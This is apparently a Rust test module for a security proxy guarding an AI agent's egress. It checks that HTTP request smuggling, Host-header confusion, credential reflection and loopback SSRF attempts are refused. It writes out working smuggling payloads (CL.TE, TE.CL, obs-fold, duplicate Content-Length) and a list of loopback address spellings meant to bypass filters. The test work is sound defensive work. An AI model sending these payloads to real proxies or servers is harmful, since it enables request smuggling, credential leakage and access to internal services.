//! Request smuggling between pipelock and egress, Host confusion, and credential reflection.

use base64::Engine;

use super::{blocked, custom, gist, in_agent, via_proxy_blocked};
use crate::{all_secret_spellings, canary, outcome, Attempt, Outcome, World};

/// An AWS-style access key id pipelock's DLP refuses (random, never the documented example).
pub fn aws_key() -> String {
    const ALPHA: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let tail: String = (0..16)
        .map(|_| ALPHA[rand::random::<u8>() as usize % ALPHA.len()] as char)
        .collect();
    format!("AKIA{tail}")
}

/// Send raw bytes to pipelock:8888 from the agent and print the reply.
fn raw_to_pipelock(w: &World, raw: &[u8]) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(raw);
    let send = |linger: u32| {
        w.a_sh(&format!(
            "echo '{b64}' | base64 -d | timeout {} nc -q {linger} pipelock 8888; echo \" rc=$?\"",
            linger + 10
        ))
        .all()
    };
    // nc stops reading `linger` seconds after its input ends; on a loaded machine an answer can
    // come later than that. No answer at all is retried once with a longer wait (the proofs —
    // the origin's log, pipelock's liveness — are judged on whatever finally came back).
    let out = send(5);
    if out.contains("HTTP/1.") {
        out
    } else {
        send(20)
    }
}

/// The smuggled request: pipelock must refuse it (its DLP finds the key), egress would not.
fn inner(c: &str, key: &str) -> String {
    format!(
        "GET http://origin.e2e.test/{c}?k={key} HTTP/1.1\r\nHost: origin.e2e.test\r\nX-Key: {key}\r\n\r\n"
    )
}

/// A smuggling attempt: `build(canary, key)` makes the raw bytes; the proof is that the
/// origin never sees the canary, and pipelock is neither restarted nor unhealthy.
fn smuggle(name: &'static str, build: fn(&str, &str) -> Vec<u8>) -> Attempt {
    custom(
        "smuggling",
        name,
        "smuggled request never reaches the origin (origin log); pipelock stays up",
        move |w: &World| {
            let c = canary("");
            let key = aws_key();
            let before = w.a.liveness("pipelock");
            let out = raw_to_pipelock(w, &build(&c, &key));
            let arrived = w.origin_lines(&c);
            let after = w.a.liveness("pipelock");
            let status: Vec<&str> = out.lines().filter(|l| l.starts_with("HTTP/")).collect();
            outcome(
                arrived.is_empty() && before == after,
                format!(
                    "replies {status:?}; origin lines with canary: {}; pipelock {}",
                    arrived.len(),
                    if before == after {
                        "unchanged"
                    } else {
                        "RESTARTED"
                    }
                ),
            )
        },
    )
}

/// Did a request holding `canary` reach the origin with the credential, under a name that
/// is not the route's host (`api.e2e.test`)?
pub fn injected_for_non_route(w: &World, c: &str) -> (bool, usize) {
    let lines = w.origin_lines(c);
    let bad = lines.iter().any(|l| {
        if !l.contains(&w.secret) {
            return false;
        }
        let v: serde_json::Value = serde_json::from_str(l.trim()).unwrap_or_default();
        let mut names = vec![
            v["authority"].as_str().unwrap_or("").to_string(),
            v["sni"].as_str().unwrap_or("").to_string(),
        ];
        if let Some(h) = v["headers"].as_array() {
            for kv in h {
                if kv[0]
                    .as_str()
                    .is_some_and(|n| n.eq_ignore_ascii_case("host"))
                {
                    names.push(kv[1].as_str().unwrap_or("").to_string());
                }
            }
        }
        // Unparseable: judge on the raw line.
        if v.is_null() {
            return !l.contains("api.e2e.test")
                || l.contains("origin.e2e.test")
                || l.contains("other.e2e.test");
        }
        names
            .iter()
            .filter(|n| !n.is_empty())
            .any(|n| !n.starts_with("api.e2e.test"))
    });
    (bad, lines.len())
}

/// Host confusion: the URL names one host, the Host header another.
fn host_confusion(name: &'static str, url: &'static str, host: &'static str) -> Attempt {
    custom(
        "smuggling",
        name,
        "refused, or forwarded without the credential: never a credential under a non-route name",
        move |w: &World| {
            let c = canary("");
            let r = w.a_sh(&format!(
                "curl -sS -i --max-time 20 -H 'Host: {host}' '{url}?c={c}'; echo \" rc=$?\""
            ));
            let (bad, n) = injected_for_non_route(w, &c);
            let leaked = leaked_spelling(w, &r.all());
            outcome(
                !bad && leaked.is_none(),
                format!(
                    "{}; origin lines {n}{}{}",
                    gist(&r.all()),
                    if bad {
                        " CREDENTIAL SENT UNDER ANOTHER NAME"
                    } else {
                        ""
                    },
                    leaked
                        .map(|s| format!(" secret spelling in output: {s}"))
                        .unwrap_or_default()
                ),
            )
        },
    )
}

/// A spelling of the credential in the agent's output, if any.
pub fn leaked_spelling(w: &World, out: &str) -> Option<String> {
    all_secret_spellings(&w.secret)
        .into_iter()
        .find(|s| out.contains(s.as_str()))
}

/// A reflection attempt: the origin got the injected credential (proof the attempt was real)
/// and no spelling of it reached the agent.
fn reflect(
    name: &'static str,
    curl: &'static str,
    query: &'static str,
    pipe: &'static str,
) -> Attempt {
    custom(
        "reflection",
        name,
        "origin got the injected credential; no spelling of it reaches the agent",
        move |w: &World| reflect_run(w, curl, query, pipe),
    )
}

fn reflect_run(w: &World, curl: &str, query: &str, pipe: &str) -> Outcome {
    let c = canary("");
    let r = w.a_sh(&format!(
        "{curl} 'https://api.e2e.test/reflect?c={c}{query}' {pipe}; echo \" rc=$?\""
    ));
    let injected = w
        .origin_lines(&c)
        .iter()
        .any(|l| l.contains(&format!("Bearer {}", w.secret)));
    let leaked = leaked_spelling(w, &r.all());
    outcome(
        injected && leaked.is_none(),
        format!(
            "injected at origin: {injected}; {}{}",
            gist(&r.all()),
            leaked
                .map(|s| format!(" LEAKED spelling {s}"))
                .unwrap_or_default()
        ),
    )
}

pub fn attempts(_w: &World) -> Vec<Attempt> {
    let mut v = Vec::new();
    // The premise of the smuggling attempts: pipelock's DLP refuses the inner request alone.
    v.push(custom(
        "smuggling",
        "premise-dlp-refuses-inner-request",
        "the inner request alone is refused by pipelock (DLP)",
        |w: &World| {
            let c = canary("");
            let out = raw_to_pipelock(w, inner(&c, &aws_key()).as_bytes());
            outcome(blocked(&out) && !w.origin_saw(&c), gist(&out))
        },
    ));
    v.push(smuggle("cl-te", |c, k| {
        let body = format!("0\r\n\r\n{}", inner(c, k));
        format!(
            "POST http://origin.e2e.test/front HTTP/1.1\r\nHost: origin.e2e.test\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    }));
    v.push(smuggle("te-cl", |c, k| {
        let i = inner(c, k);
        format!(
            "POST http://origin.e2e.test/front HTTP/1.1\r\nHost: origin.e2e.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{i}\r\n0\r\n\r\n",
            i.len()
        )
        .into_bytes()
    }));
    v.push(smuggle("duplicate-content-length", |c, k| {
        let i = inner(c, k);
        format!(
            "POST http://origin.e2e.test/front HTTP/1.1\r\nHost: origin.e2e.test\r\nContent-Length: 0\r\nContent-Length: {}\r\n\r\n{i}",
            i.len()
        )
        .into_bytes()
    }));
    v.push(smuggle("obs-fold-transfer-encoding", |c, k| {
        let body = format!("0\r\n\r\n{}", inner(c, k));
        format!(
            "POST http://origin.e2e.test/front HTTP/1.1\r\nHost: origin.e2e.test\r\nContent-Length: {}\r\nX-Pad: a\r\nTransfer-Encoding:\r\n chunked\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    }));
    v.push(smuggle("te-space-before-colon", |c, k| {
        let body = format!("0\r\n\r\n{}", inner(c, k));
        format!(
            "POST http://origin.e2e.test/front HTTP/1.1\r\nHost: origin.e2e.test\r\nContent-Length: {}\r\nTransfer-Encoding : chunked\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    }));
    v.push(smuggle("te-chunked-identity-list", |c, k| {
        let body = format!("0\r\n\r\n{}", inner(c, k));
        format!(
            "POST http://origin.e2e.test/front HTTP/1.1\r\nHost: origin.e2e.test\r\nContent-Length: {}\r\nTransfer-Encoding: chunked, identity\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    }));
    v.push(smuggle("chunk-size-overflow", |c, k| {
        let i = inner(c, k);
        format!(
            "POST http://origin.e2e.test/front HTTP/1.1\r\nHost: origin.e2e.test\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff1\r\n{i}\r\n0\r\n\r\n"
        )
        .into_bytes()
    }));
    v.push(smuggle("pipelined-second-request", |c, k| {
        format!(
            "GET http://origin.e2e.test/first HTTP/1.1\r\nHost: origin.e2e.test\r\n\r\n{}",
            inner(c, k)
        )
        .into_bytes()
    }));
    v.push(smuggle("bare-lf-line-endings", |c, k| {
        let body = format!("0\n\n{}", inner(c, k).replace("\r\n", "\n"));
        format!(
            "POST http://origin.e2e.test/front HTTP/1.1\nHost: origin.e2e.test\nContent-Length: {}\nTransfer-Encoding: chunked\n\n{body}",
            body.len()
        )
        .into_bytes()
    }));
    v.push(custom(
        "smuggling",
        "absolute-form-vs-host-header",
        "absolute-form other.e2e.test with Host origin.e2e.test refused; canary never at origin",
        |w: &World| {
            let c = canary("");
            let out = raw_to_pipelock(
                w,
                format!("GET http://other.e2e.test/{c} HTTP/1.1\r\nHost: origin.e2e.test\r\n\r\n")
                    .as_bytes(),
            );
            outcome(blocked(&out) && !w.origin_saw(&c), gist(&out))
        },
    ));
    v.push(host_confusion(
        "host-header-route-host-over-http",
        "http://origin.e2e.test/reflect",
        "api.e2e.test",
    ));
    v.push(host_confusion(
        "host-header-route-host-in-tls-tunnel",
        "https://origin.e2e.test/reflect",
        "api.e2e.test",
    ));
    v.push(host_confusion(
        "route-url-other-host-header-in-tls-tunnel",
        "https://api.e2e.test/reflect",
        "other.e2e.test",
    ));
    v.push(host_confusion(
        "route-url-allowed-host-header-over-http",
        "http://api.e2e.test/reflect",
        "origin.e2e.test",
    ));

    // --- credential reflection
    let plain = "curl -sS -i --max-time 20";
    v.push(reflect("reflect-raw", plain, "", ""));
    v.push(reflect(
        "reflect-http2",
        "curl -sS -i --http2 --max-time 20",
        "",
        "",
    ));
    v.push(reflect("reflect-split-frames", plain, "&split=1", ""));
    v.push(reflect(
        "reflect-3-byte-chunks",
        plain,
        "&chunk=3&chunk_ms=5",
        "",
    ));
    v.push(reflect(
        "reflect-gzip-decoded-by-agent",
        "curl -sS --max-time 20",
        "&gzip=1",
        "| gzip -dc 2>&1",
    ));
    for (name, enc) in [
        ("reflect-deflate", "&encoding=deflate"),
        ("reflect-brotli", "&encoding=br"),
        ("reflect-zstd", "&encoding=zstd"),
    ] {
        v.push(reflect(
            name,
            "curl -sS -i --compressed --max-time 20",
            enc,
            "",
        ));
    }
    v.push(reflect(
        "reflect-echo-json-headers",
        plain,
        "&x=1",
        "; curl -sS --max-time 20 https://api.e2e.test/anything",
    ));
    v.push(in_agent(
        "reflection",
        "reflect-cleartext-route",
        "no credential over plain http to the route; nothing reflected",
        "curl -sS -i --max-time 20 http://api.e2e.test/reflect; echo \" rc=$?\"".into(),
        |o| !o.to_ascii_lowercase().contains("x-reflect-count: 1"),
    ));
    v.push(custom(
        "reflection",
        "redirect-to-host-listener",
        "a redirect from the route to the host is refused by pipelock; the host listener gets nothing",
        |w: &World| {
            let c = canary("");
            let h = w.host_addrs.first().cloned().unwrap_or_default();
            let hits = w.host_hits();
            let r = w.a_sh(&format!(
                "curl -sS -i -L --max-time 20 'https://api.e2e.test/redirect?to=http://{h}:{}/{c}'; echo \" rc=$?\"",
                w.host_port
            ));
            outcome(
                blocked(&r.all()) && w.host_hits() == hits && !w.host_saw(&c),
                gist(&r.all()),
            )
        },
    ));
    // pipelock's own loopback (its admin port, egress behind it) by every spelling.
    for (name, url) in [
        ("loopback-127.0.0.1-admin", "http://127.0.0.1:9090/metrics"),
        ("loopback-127.1-admin", "http://127.1:9090/metrics"),
        ("loopback-0.0.0.0-admin", "http://0.0.0.0:9090/metrics"),
        ("loopback-0-admin", "http://0:9090/metrics"),
        ("loopback-decimal-admin", "http://2130706433:9090/metrics"),
        ("loopback-v6-admin", "http://[::1]:9090/metrics"),
        (
            "loopback-v4-mapped-admin",
            "http://[::ffff:127.0.0.1]:9090/metrics",
        ),
        ("localhost-egress-port", "http://localhost:9099/"),
        ("localhost-subdomain", "http://x.localhost:9090/metrics"),
        (
            "userinfo-route-name-to-loopback",
            "https://api.e2e.test.@127.0.0.1:9090/",
        ),
    ] {
        v.push(via_proxy_blocked("network", name, move |_| url.to_string()));
    }
    v
}
